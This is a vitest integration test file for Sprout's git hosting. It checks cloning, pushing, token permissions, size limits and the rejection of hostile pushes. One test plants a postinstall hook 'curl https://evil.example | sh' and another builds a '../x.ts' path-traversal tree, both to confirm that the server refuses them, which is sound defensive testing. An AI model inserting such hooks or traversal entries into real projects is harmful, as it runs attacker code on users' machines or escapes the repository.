import { randomBytes } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { accessToken, cloneUrl, fileOf, gitClient, newProject, type Session, useTestApp, versionsOf } from '../testing';

const dataDir = mkdtempSync(path.join(tmpdir(), 'sprout-git-data-'));
const t = useTestApp({ DATA_DIR: dataDir });
let base: string;
let owner: Session;
let sproutId: string;
let write: string;
let git: Awaited<ReturnType<typeof gitClient>>;
let work: string;

const put = (content: string, baseVersionId: string, file = 'client/src/App.tsx') =>
  t.api('PUT', `/build/v1/sprouts/${sproutId}/files`, { token: owner.idToken, body: { path: file, content, baseVersionId } });

beforeAll(async () => {
  base = await t.listen();
  owner = await t.register();
  sproutId = await newProject(t, owner);
  const v1 = (await versionsOf(t, owner, sproutId)).currentVersionId!;
  expect((await put('export default () => null;\n', v1)).statusCode).toBe(200);
  write = (await accessToken(t, owner.idToken, 'write')).token;
  git = await gitClient();
  work = path.join(git.home, 'work');
});

describe('a project as a git repository', () => {
  it('clones the current version’s files, one commit per version', async () => {
    await git.ok(['clone', '-q', cloneUrl(base, sproutId, write), work]);
    const { files } = (await t.api('GET', `/build/v1/sprouts/${sproutId}/files`, { token: owner.idToken })).json();
    for (const f of files as { path: string; content: string }[]) expect(await readFile(path.join(work, f.path), 'utf8'), f.path).toBe(f.content);
    expect((await git.ok(['ls-files'], work)).split('\n').sort()).toEqual(files.map((f: { path: string }) => f.path).sort());
    expect(await git.ok(['log', '--format=%s|%an|%cn'], work)).toMatch(/^Edited client\/src\/App\.tsx\|User \d+\|Sprout\n.+\|User \d+\|Sprout$/);
    expect(await git.ok(['rev-parse', '--abbrev-ref', 'HEAD'], work)).toBe('main');
  });

  it('makes a pushed commit a version, and pulls an edit made in Sprout', async () => {
    await writeFile(path.join(work, 'client/src/App.tsx'), 'export default () => "blue";\n');
    await git.ok(['commit', '-qam', 'Make it blue\n\nA longer body.'], work);
    const pushed = await git.run(['push', 'origin', 'main'], work);
    expect(pushed.code, pushed.stderr).toBe(0);
    expect(pushed.stderr).toContain('remote: Saved as version 3.');
    const list = await versionsOf(t, owner, sproutId);
    expect(list.versions[0]).toMatchObject({ number: 3, source: 'git', summary: 'Make it blue' });
    expect(await fileOf(t, owner, sproutId, 'client/src/App.tsx')).toBe('export default () => "blue";\n');
    // The repository serves the pushed commit itself: the clone is in step.
    expect(await git.ok(['ls-remote', 'origin', 'main'], work)).toContain(await git.ok(['rev-parse', 'HEAD'], work));

    expect((await put('export default () => "green";\n', list.currentVersionId!)).statusCode).toBe(200);
    const pulled = await git.run(['pull', '--ff-only', '-q'], work);
    expect(pulled.code, pulled.stderr).toBe(0);
    expect(await readFile(path.join(work, 'client/src/App.tsx'), 'utf8')).toBe('export default () => "green";\n');
    expect(await git.ok(['log', '-1', '--format=%s'], work)).toBe('Edited client/src/App.tsx');
  });

  it('refuses a push that is not a fast-forward, with git’s own message', async () => {
    const v = (await versionsOf(t, owner, sproutId)).currentVersionId!;
    expect((await put('export default () => "moved on";\n', v)).statusCode).toBe(200);
    await writeFile(path.join(work, 'client/src/App.tsx'), 'export default () => "mine";\n');
    await git.ok(['commit', '-qam', 'Mine'], work);
    const stale = await git.run(['push', 'origin', 'main'], work);
    expect(stale.code).not.toBe(0);
    expect(stale.stderr).toMatch(/rejected|fetch first/);
    const forced = await git.run(['push', '--force', 'origin', 'main'], work);
    expect(forced.code).not.toBe(0);
    expect(forced.stderr).toMatch(/denying non-fast-forward|non-fast-forward/);
    expect(await fileOf(t, owner, sproutId, 'client/src/App.tsx')).toBe('export default () => "moved on";\n');
    // Rebased on what Sprout made, the same work goes in.
    await git.ok(['pull', '--rebase', '-q', '-X', 'theirs'], work);
    expect((await git.run(['push', 'origin', 'main'], work)).code).toBe(0);
  });

  it('refuses other branches, hostile trees, lifecycle scripts and invalid data rules, saying why', async () => {
    const before = (await versionsOf(t, owner, sproutId)).versions.length;
    const branch = await git.run(['push', 'origin', 'main:feature'], work);
    expect(branch.code).not.toBe(0);
    expect(branch.stderr).toContain('remote: Only the main branch can be pushed to Sprout');

    const refused = async (message: string, expected: RegExp) => {
      const r = await git.run(['push', 'origin', 'main'], work);
      expect(r.code, message).not.toBe(0);
      expect(r.stderr, message).toMatch(expected);
      await git.ok(['reset', '-q', '--hard', 'origin/main'], work);
    };
    // A "../x.ts" entry, made with git's plumbing (git's porcelain would not write one).
    const blob = await git.ok(['hash-object', '-w', '--stdin'], work, 'export const x = 1;\n');
    const inner = await git.ok(['mktree'], work, `100644 blob ${blob}\tx.ts\n`);
    const root = await git.ok(['ls-tree', 'HEAD'], work);
    const tree = await git.ok(['mktree'], work, `${root}\n040000 tree ${inner}\t..\n`);
    const commit = await git.ok(['commit-tree', tree, '-p', 'HEAD', '-m', 'Escape'], work);
    await git.ok(['update-ref', 'refs/heads/main', commit], work);
    await refused('traversal', /remote: .*invalid path "\.\.\/x\.ts"/);

    const manifest = JSON.parse(await readFile(path.join(work, 'package.json'), 'utf8'));
    manifest.scripts = { ...manifest.scripts, postinstall: 'curl https://evil.example | sh' };
    await writeFile(path.join(work, 'package.json'), JSON.stringify(manifest, null, 2));
    await git.ok(['commit', '-qam', 'Install hook'], work);
    await refused('postinstall', /remote: .*"postinstall" script/);

    await writeFile(path.join(work, 'sprout.data.json'), '{"collections": {"notes": {"read": "everyone-ish"}}}');
    await git.ok(['add', 'sprout.data.json'], work);
    await git.ok(['commit', '-qm', 'Rules'], work);
    await refused('data rules', /remote: .*sprout\.data\.json/);

    await writeFile(path.join(work, 'run.sh'), 'echo hi\n');
    await git.ok(['add', 'run.sh'], work);
    await git.ok(['commit', '-qm', 'Script'], work);
    await refused('file type', /remote: .*Files of type \.sh are not allowed/);

    expect((await versionsOf(t, owner, sproutId)).versions).toHaveLength(before);
  });

  it('refuses a push larger than the limit, saying so', async () => {
    const before = (await versionsOf(t, owner, sproutId)).versions.length;
    await writeFile(path.join(work, 'client/src/big.txt'), randomBytes(21 * 1024 * 1024).toString('base64'));
    await git.ok(['add', '.'], work);
    await git.ok(['commit', '-qm', 'Big'], work);
    const r = await git.run(['push', 'origin', 'main'], work);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/pack exceeds maximum allowed size|larger than 20 MB/);
    await git.ok(['reset', '-q', '--hard', 'origin/main'], work);
    expect((await versionsOf(t, owner, sproutId)).versions).toHaveLength(before);
  });

  it('serves the same commit ids after the repository on disk is deleted', async () => {
    const remote = await git.ok(['ls-remote', 'origin', 'main'], work);
    const history = await git.ok(['rev-list', 'origin/main'], work);
    await rm(path.join(dataDir, 'git', `${sproutId}.git`), { recursive: true, force: true });
    expect(await git.ok(['ls-remote', 'origin', 'main'], work)).toBe(remote);
    const again = path.join(git.home, 'again');
    await git.ok(['clone', '-q', cloneUrl(base, sproutId, write), again]);
    expect(await git.ok(['rev-list', 'HEAD'], again)).toBe(history);
  });

  it('lets a read token clone but not push, and refuses revoked tokens and other people’s', async () => {
    const read = await accessToken(t, owner.idToken, 'read');
    const readClone = path.join(git.home, 'read');
    await git.ok(['clone', '-q', cloneUrl(base, sproutId, read.token), readClone]);
    await writeFile(path.join(readClone, 'client/src/App.tsx'), 'x\n');
    await git.ok(['commit', '-qam', 'Nope'], readClone);
    const push = await git.run(['push', 'origin', 'main'], readClone);
    expect(push.code).not.toBe(0);
    expect(push.stderr).toContain('This access token can only read');

    expect((await t.api('DELETE', `/v1/me/tokens/${read.id}`, { token: owner.idToken })).statusCode).toBe(204);
    const revoked = await git.run(['ls-remote', cloneUrl(base, sproutId, read.token)]);
    expect(revoked.code).not.toBe(0);
    expect(revoked.stderr).toMatch(/Authentication failed|401/);

    const stranger = await t.register();
    const theirs = await accessToken(t, stranger.idToken, 'write');
    const foreign = await git.run(['ls-remote', cloneUrl(base, sproutId, theirs.token)]);
    expect(foreign.code).not.toBe(0);
    expect(foreign.stderr).toMatch(/not found/i);
    const none = await git.run(['ls-remote', `${base}/git/${sproutId}.git`]);
    expect(none.stderr).toMatch(/could not read Username|Authentication failed|terminal prompts disabled/);
  });
});
